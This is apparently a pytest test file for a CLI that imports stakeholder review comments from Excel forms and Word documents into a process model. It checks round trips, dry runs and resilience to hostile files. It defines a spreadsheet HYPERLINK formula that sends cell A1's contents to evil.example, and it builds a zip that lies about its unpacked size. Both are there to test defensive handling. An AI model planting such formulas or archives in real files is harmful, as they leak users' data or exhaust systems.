"""`mhhsarch comments import` and `comments anchors`: the review loop's way back in.

The round trip (render the form, fill it with openpyxl, import, read the model back,
import again), Word comments made with python-docx on a rendered BP005 step row and an
IF-021 data-item row, a hostile 10,000-row form, and files that cannot be read."""

from __future__ import annotations

import io
import json
import re
import shutil
import struct
import time
import zipfile
from pathlib import Path

import docx
import pytest
import yaml
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

from conftest import REPO
from mhhsarch.cli import app
from mhhsarch.pipeline import check_model
from mhhsarch.review import anchors
from mhhsarch.review import form as f
from mhhsarch.review.importer import UNPLACED_FILE
from mhhsarch.source.loader import load_model

EPOCH = "1700000000"
LARGE, SMALL, DNO = "Supplier \u2013 Large", "Supplier \u2013 Small", "Distributor \u2013 DNO"
FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"Click")'


def _run(*args: str):
    return CliRunner().invoke(app, list(args), env={"SOURCE_DATE_EPOCH": EPOCH})


@pytest.fixture(scope="module")
def rendered(tmp_path_factory):
    """The shipped model's forms (tranche 1) and the Word documents of BP005 and IF-021."""
    root = tmp_path_factory.mktemp("rendered")
    shutil.copytree(REPO / "model", root / "model")
    for only, extra in (("comment-forms", ["--tranche", "1"]), ("specs,process-docs", ["--select", "IF-021 BP005"])):
        result = _run("render", str(root / "model"), "--out", str(root / only.split(",")[0]), "--only", only, *extra)
        assert result.exit_code == 0, result.output
    return {
        "form": root / "comment-forms/forms/tranche-1-round-1-comments.xlsx",
        "BP005": root / "specs/processes/BP005.docx",
        "IF-021": root / "specs/specs/IF-021.docx",
    }


@pytest.fixture
def model_dir(tmp_path, monkeypatch) -> Path:
    monkeypatch.chdir(tmp_path)
    shutil.copytree(REPO / "model", tmp_path / "model")
    return tmp_path / "model"


def _choice(model, artefact: str, anchor: str | None = None) -> tuple[str, str | None]:
    a = anchors.artefact(model, artefact)
    found = anchors.find_anchor(model, artefact, anchor) if anchor else None
    return a.choice, found.choice if found else None


def _fill(form: Path, target: Path, rows: list[list]) -> Path:
    wb = load_workbook(form)
    ws = wb[f.FORM_SHEET]
    for r, row in enumerate(rows, 2):
        for c, value in enumerate(row, 1):
            ws.cell(r, c, value)
    wb.save(target)
    return target


def _imported(model_dir: Path, name: str) -> dict[int, object]:
    """The model's comments imported from the file `name`, by source row or Word comment id."""
    model = load_model(model_dir).model
    return {
        (c.source.row if c.source.row is not None else c.source.comment_id): c
        for c in model.comments.values()
        if c.source is not None and c.source.file == name
    }


def test_round_trip_of_a_filled_form(rendered, model_dir, tmp_path):
    model = load_model(model_dir).model
    before = set(model.comments)
    filled = [
        # artefact, anchor, organisation, constituency, reviewer, comment, proposed change, status, response
        [*_choice(model, "IF-021", "DI-202"), "Northwind Energy", LARGE, "Ann", "Precision of consumption?", "3 dp"],
        [*_choice(model, "IF-021", "section:volumetrics"), "Brightside Power", SMALL, "Bo", "Peak hour?", None],
        [*_choice(model, "BP005", "step:3"), "Northwind Energy", LARGE, "Ann", "When are periods estimated?"],
        [*_choice(model, "BP005", "ROLE:LSS"), "Eastern Networks", DNO, "Cy", "Who runs the LSS?"],
        [*_choice(model, "BRS007", "section:2"), "Eastern Networks", DNO, "Cy", "Scope leaves out UMS."],
        [*_choice(model, "CATALOGUE", "VS-CONSUMPTION-QUALITY:E"), "Brightside Power", SMALL, "Bo", "E for what?"],
        [
            _choice(model, "IF-022")[0],
            None,
            "Brightside Power",
            SMALL,
            "Bo",
            "The whole spec is late.",
            None,
            "Accepted",
            "Yes.",
        ],
    ]
    form = _fill(rendered["form"], tmp_path / "northwind.xlsx", filled)
    tracked_before = _tracked(model_dir)
    result = _run("comments", "import", str(form), "--model", str(model_dir))
    assert result.exit_code == 0, result.output
    assert "Added 7 comments to" in result.output
    assert (
        "northwind.xlsx: sheet Comments, row 7, column A (Artefact): round 1 did not issue CATALOGUE" in result.output
    )
    got = _imported(model_dir, "northwind.xlsx")
    assert sorted(got) == list(range(2, 9))
    expected = [
        ("IF-021", "DI-202", LARGE),
        ("IF-021", "section:volumetrics", SMALL),
        ("BP005", "step:3", LARGE),
        ("BP005", "ROLE:LSS", DNO),
        ("BRS007", "section:2", DNO),
        ("CATALOGUE", "VS-CONSUMPTION-QUALITY:E", SMALL),
        ("IF-022", None, SMALL),
    ]
    for row, (artefact, anchor, constituency) in enumerate(expected, 2):
        comment = got[row]
        assert (comment.artefact, comment.anchor, comment.constituency) == (artefact, anchor, constituency), row
        # the shipped model's round 1 did not list the catalogue: its comment is kept without a round
        assert comment.round == (None if artefact == "CATALOGUE" else 1) and comment.source.sheet == "Comments"
        assert comment.source.digest
        assert comment.text == filled[row - 2][5] and comment.organisation == filled[row - 2][2]
    assert got[2].proposed_change == "3 dp" and got[2].source.reviewer == "Ann"
    assert (got[8].status, got[8].response) == ("accepted", "Yes.")
    assert all(got[r].status == "open" for r in range(2, 8))
    # the ids follow the highest of the model, and the file validates
    assert min(int(c.id[2:]) for c in got.values()) == max(int(i[2:]) for i in before) + 1
    checked = check_model(model_dir)
    assert not checked.has_errors, [d.message for d in checked.diagnostics if d.severity.value == "error"]
    # counts per constituency equal what was filled
    counts: dict[str, int] = {}
    for comment in got.values():
        counts[comment.constituency] = counts.get(comment.constituency, 0) + 1
    assert counts == {LARGE: 2, SMALL: 3, DNO: 2}
    # the tracker counts what was filled, per artefact and status (it lists the round's
    # documents; the catalogue's comments are in the model, above)
    tracked = _tracked(model_dir)
    for artefact, status, added in (
        ("IF-021", "open", 2),
        ("BP005", "open", 2),
        ("BRS007", "open", 1),
        ("IF-022", "accepted", 1),
    ):
        assert tracked[artefact][status] - tracked_before[artefact][status] == added, artefact
        assert tracked[artefact]["total"] - tracked_before[artefact]["total"] == added, artefact
    # a second import adds nothing and leaves the file as it was
    target = model_dir / "reviews/imported-tranche-1.yaml"
    text = target.read_bytes()
    again = _run("comments", "import", str(form), "--model", str(model_dir))
    assert again.exit_code == 0 and "Nothing new to import (7 already imported)" in again.output
    assert target.read_bytes() == text
    # every string is quoted: no reader takes a reviewer's text for a number or a date
    assert '  - id: "C-' in text.decode() and 'constituency: "Supplier \u2013 Large"' in text.decode()


def _tracked(model_dir: Path) -> dict[str, dict[str, int]]:
    result = _run("tracker", str(model_dir), "--format", "json", "--tranche", "1", "--round", "1")
    assert result.exit_code == 0, result.output
    (round_one,) = json.loads(result.stdout)["tranches"]
    return {a["id"]: a["counts"] for a in round_one["artefacts"]}


def test_dry_run_writes_nothing(rendered, model_dir, tmp_path):
    model = load_model(model_dir).model
    form = _fill(
        rendered["form"], tmp_path / "dry.xlsx", [[*_choice(model, "BP005", "step:1"), "Org", LARGE, "A", "x"]]
    )
    result = _run("comments", "import", str(form), "--model", str(model_dir), "--dry-run")
    assert result.exit_code == 0, result.output
    assert "Would add 1 comments" in result.output and "BP005 step:1" in result.output
    assert not (model_dir / "reviews/imported-tranche-1.yaml").exists()


def test_into_appends_to_a_file_the_team_has_edited(rendered, model_dir, tmp_path):
    model = load_model(model_dir).model
    target = model_dir / "reviews/tranche1.yaml"
    old = target.read_text(encoding="utf-8")
    form = _fill(
        rendered["form"], tmp_path / "into.xlsx", [[*_choice(model, "BP005", "step:1"), "Org", LARGE, "A", "yes"]]
    )
    result = _run("comments", "import", str(form), "--model", str(model_dir), "--into", str(target))
    assert result.exit_code == 0, result.output
    new = target.read_text(encoding="utf-8")
    assert new.startswith(old.rstrip("\n"))  # the team's file, its comments and answers, kept as written
    assert _imported(model_dir, "into.xlsx")[2].text == "yes"


# --- Word comments ------------------------------------------------------------------------


def _row_where(document, first_cell: str, column: int):
    for table in document.tables:
        for row in table.rows:
            if row.cells[0].text.strip() == first_cell:
                return row.cells[column]
    raise AssertionError(f"no row {first_cell}")


def _commented(rendered, tmp_path: Path) -> tuple[Path, Path]:
    bp005 = docx.Document(str(rendered["BP005"]))
    bp005.add_comment(
        _row_where(bp005, "3", 2).paragraphs[0].runs,
        text="Say when periods are estimated.",
        author="Ann Reviewer",
        initials="AR",
    )
    glossary = next(p for p in bp005.paragraphs if p.text.startswith("The abbreviations"))
    bp005.add_comment(glossary.runs, text="Add MPAN to the glossary.", author="Ann Reviewer", initials="AR")
    first = tmp_path / "BP005-northwind.docx"
    bp005.save(str(first))
    if021 = docx.Document(str(rendered["IF-021"]))
    cell = _row_where(if021, "DI-202", 1)
    if021.add_comment(cell.paragraphs[0].runs, text="How many decimals?", author="Bo Reviewer", initials="BR")
    if021.core_properties.identifier = ""  # found from its bookmarks, whatever the file is called
    second = tmp_path / "review copy.docx"
    if021.save(str(second))
    return first, second


def test_word_comments_are_anchored_to_the_step_and_the_data_item(rendered, model_dir, tmp_path):
    first, second = _commented(rendered, tmp_path)
    # without a constituency they cannot be comments of the model yet: kept, reported
    result = _run("comments", "import", str(first), str(second), "--model", str(model_dir))
    assert result.exit_code == 0, result.output
    assert "no constituency: kept unplaced" in result.output and "Word comment 0" in result.output
    unplaced = yaml.safe_load((model_dir / "reviews" / UNPLACED_FILE).read_text(encoding="utf-8"))["unplaced"]
    assert sorted((u["artefact"], u.get("anchor") or "") for u in unplaced) == [
        ("BP005", ""),
        ("BP005", "step:3"),
        ("IF-021", "DI-202"),
    ]
    assert not check_model(model_dir).has_errors  # the hidden file is not a model file
    # with the batch's organisation and constituency they are placed, and leave the unplaced file
    args = ["--organisation", "Northwind Energy", "--constituency", "supplier - large"]
    result = _run("comments", "import", str(first), str(second), "--model", str(model_dir), *args)
    assert result.exit_code == 0, result.output
    assert "3 placed now and taken out of it" in result.output
    bp005 = _imported(model_dir, "BP005-northwind.docx")
    assert {c.anchor for c in bp005.values()} == {"step:3", None}
    step = next(c for c in bp005.values() if c.anchor)
    assert (step.artefact, step.text, step.source.reviewer, step.organisation, step.constituency) == (
        "BP005",
        "Say when periods are estimated.",
        "Ann Reviewer",
        "Northwind Energy",
        LARGE,
    )
    assert step.round == 2  # the last round that issued BP005
    (item,) = _imported(model_dir, "review copy.docx").values()
    assert (item.artefact, item.anchor, item.source.reviewer) == ("IF-021", "DI-202", "Bo Reviewer")
    assert yaml.safe_load((model_dir / "reviews" / UNPLACED_FILE).read_text(encoding="utf-8"))["unplaced"] == []
    assert not check_model(model_dir).has_errors
    again = _run("comments", "import", str(first), str(second), "--model", str(model_dir), *args)
    assert again.exit_code == 0 and "Nothing new to import (3 already imported)" in again.output


# --- hostile forms ------------------------------------------------------------------------


def _hostile(path: Path, rows: int) -> tuple[Path, int, dict[int, str]]:
    """A form of `rows` rows, every kind of trouble in turn; returns the file, how many
    rows are not empty, and which row has which trouble."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Comments"
    ws.append([c.title for c in f.COLUMNS])
    kinds = ["ok", "formula", "no-artefact", "bad-constituency", "empty", "bad-anchor", "unknown-artefact"]
    trouble = {}
    written = 0
    for n in range(rows):
        kind = kinds[n % len(kinds)]
        r = n + 2
        trouble[r] = kind
        row = ["BP005", "step:2", f"Org {n % 40}", LARGE, "R", f"comment {n}", None]
        if kind == "formula":
            row[5] = FORMULA
        elif kind == "no-artefact":
            row[0] = None
        elif kind == "bad-constituency":
            row[3] = "Large Supplier"
        elif kind == "empty":
            row = []
        elif kind == "bad-anchor":
            row[1] = "step:99"
        elif kind == "unknown-artefact":
            row[0] = "XX999"
        ws.append(row)
        written += bool(row)
    wb.save(path)
    return path, written, trouble


def test_a_hostile_form_imports_without_loss(model_dir, tmp_path, capsys):
    path, written, trouble = _hostile(tmp_path / "hostile.xlsx", 10_000)
    started = time.perf_counter()
    result = _run("comments", "import", str(path), "--model", str(model_dir))
    took = time.perf_counter() - started
    with capsys.disabled():
        print(f"\n[comments import] 10,000-row form: {took:.2f} s")
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    placed = _imported(model_dir, "hostile.xlsx")
    unplaced = yaml.safe_load((model_dir / "reviews" / UNPLACED_FILE).read_text(encoding="utf-8"))["unplaced"]
    assert len(placed) + len(unplaced) == written  # nothing lost, empty rows skipped
    assert not [r for r, k in trouble.items() if k == "empty" and r in placed]
    formula_row = next(r for r, k in trouble.items() if k == "formula")
    assert placed[formula_row].text == FORMULA  # text, never run
    bad_anchor = next(r for r, k in trouble.items() if k == "bad-anchor")
    assert placed[bad_anchor].anchor is None and placed[bad_anchor].status == "open"
    out = result.output
    assert f"hostile.xlsx: sheet Comments, row {formula_row}, column F (Comment): " in out
    assert f"row {bad_anchor}, column B (Anchor): 'step:99' is not an anchor of BP005" in out
    no_artefact = next(r for r, k in trouble.items() if k == "no-artefact")
    assert f"row {no_artefact}, column A (Artefact): no artefact: kept unplaced" in out
    bad = next(r for r, k in trouble.items() if k == "bad-constituency")
    assert f"row {bad}, column D (Constituency): 'Large Supplier' is not one of" in out and "did you mean" in out
    unknown = next(r for r, k in trouble.items() if k == "unknown-artefact")
    assert any(u["source"]["row"] == unknown and u["artefact"] == "XX999" for u in unplaced)
    checked = check_model(model_dir)
    assert not checked.has_errors, [d.message for d in checked.diagnostics if d.severity.value == "error"][:3]
    assert took < 30  # the target is 5 s (the number above); generous here for a loaded machine


def test_text_that_readers_would_take_for_something_else_stays_text(model_dir, tmp_path):
    texts = [
        "yes",
        "1e3",
        "2022-01-01",
        "null",
        "0x1F",
        "first line\nsecond line",
        "{{ tag }}",
        "# hash",
        "a: b",
        "  padded  ",
    ]
    wb = Workbook()
    ws = wb.active
    ws.title = "Comments"
    ws.append([c.title for c in f.COLUMNS])
    for text in texts:
        ws.append(["BP005", None, "Org", LARGE, "R", text, text])
    wb.save(tmp_path / "readers.xlsx")
    result = _run("comments", "import", str(tmp_path / "readers.xlsx"), "--model", str(model_dir))
    assert result.exit_code == 0, result.output
    got = _imported(model_dir, "readers.xlsx")
    assert [got[r].proposed_change for r in range(2, 2 + len(texts))] == [t.strip() for t in texts]
    checked = check_model(model_dir)
    assert not [d for d in checked.diagnostics if d.code.startswith(("Y", "S"))], [
        d.message for d in checked.diagnostics
    ]


def _lying_zip(path: Path) -> Path:
    """A zip whose directory says its one entry unpacks to 4 GB."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        z.writestr("xl/workbook.xml", b"<workbook/>")
    data = bytearray(buffer.getvalue())
    central = data.rfind(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, 0xFFFFFFF0)
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize("case", ["garbage", "truncated", "bomb", "not-a-form", "no-document", "wrong-suffix"])
def test_unreadable_files_exit_2_with_one_line(rendered, model_dir, tmp_path, case):
    if case == "garbage":
        bad = tmp_path / "bad.xlsx"
        bad.write_bytes(b"\x00\x01 not a zip at all" * 50)
    elif case == "truncated":
        bad = tmp_path / "cut.xlsx"
        bad.write_bytes(rendered["form"].read_bytes()[:5000])
    elif case == "bomb":
        bad = _lying_zip(tmp_path / "bomb.xlsx")
    elif case == "not-a-form":
        bad = tmp_path / "other.xlsx"
        Workbook().save(bad)
    elif case == "no-document":
        bad = tmp_path / "empty.docx"
        with zipfile.ZipFile(bad, "w") as z:
            z.writestr("word/other.xml", "<x/>")
    else:
        bad = tmp_path / "notes.txt"
        bad.write_text("a comment", encoding="utf-8")
    good = _fill(rendered["form"], tmp_path / "good.xlsx", [["BP005", "step:1", "Org", LARGE, "A", "fine"]])
    result = _run("comments", "import", str(good), str(bad), "--model", str(model_dir))
    assert result.exit_code == 2, result.output
    lines = [line for line in result.output.splitlines() if line.strip()]
    assert len(lines) == 1 and lines[0].startswith("mhhsarch: error: cannot read") and bad.name in lines[0], lines
    assert "Traceback" not in result.output
    assert not (model_dir / "reviews/imported-tranche-1.yaml").exists()  # nothing written


def test_a_missing_file_and_a_wrong_constituency_option_are_usage_errors(model_dir, tmp_path):
    result = _run("comments", "import", str(tmp_path / "absent.xlsx"), "--model", str(model_dir))
    assert result.exit_code == 2 and "no such file" in result.output
    (tmp_path / "x.docx").write_bytes(b"")
    result = _run("comments", "import", str(tmp_path / "x.docx"), "--model", str(model_dir), "--constituency", "Large")
    assert result.exit_code == 2 and "is not one of" in result.output


def test_comments_anchors_lists_an_artefacts_anchors(model_dir):
    result = _run("comments", "anchors", "BP005", "--model", str(model_dir), "--bookmarks")
    assert result.exit_code == 0, result.output
    lines = result.output.splitlines()
    model = load_model(model_dir).model
    assert len(lines) == len(anchors.anchors(model, "BP005"))
    assert any(line.startswith("step:3 ") and anchors.bookmark_name("step:3") in line for line in lines)
    result = _run("comments", "anchors", "BP05", "--model", str(model_dir))
    assert result.exit_code == 2 and "did you mean" in result.output


def test_a_sheet_that_claims_a_million_rows_reads_only_what_it_holds(model_dir, tmp_path):
    wb = Workbook()
    ws = wb.active
    ws.title = "Comments"
    ws.append([c.title for c in f.COLUMNS])
    ws.append(["BP005", "step:1", "Org", LARGE, "R", "the only comment"])
    buffer = io.BytesIO()
    wb.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    path = tmp_path / "claims.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data)
                assert b"XFD1048576" in data
            out.writestr(info.filename, data)
    started = time.perf_counter()
    result = _run("comments", "import", str(path), "--model", str(model_dir))
    assert result.exit_code == 0, result.output
    assert time.perf_counter() - started < 20
    assert [c.text for c in _imported(model_dir, "claims.xlsx").values()] == ["the only comment"]


def test_a_form_for_a_round_the_model_does_not_have_is_reported(rendered, model_dir, tmp_path):
    form = _fill(rendered["form"], tmp_path / "x.xlsx", [["BP005", "step:1", "Org", LARGE, "A", "fine"]])
    wb = load_workbook(form)
    wb[f.FORM_FACTS_SHEET]["B3"] = 7
    wb.save(form)
    result = _run("comments", "import", str(form), "--model", str(model_dir))
    assert result.exit_code == 0, result.output
    assert "x.xlsx: a form for tranche 1, round 7, which the model does not have" in result.output
    (comment,) = _imported(model_dir, "x.xlsx").values()
    assert comment.round is None and comment.anchor == "step:1"
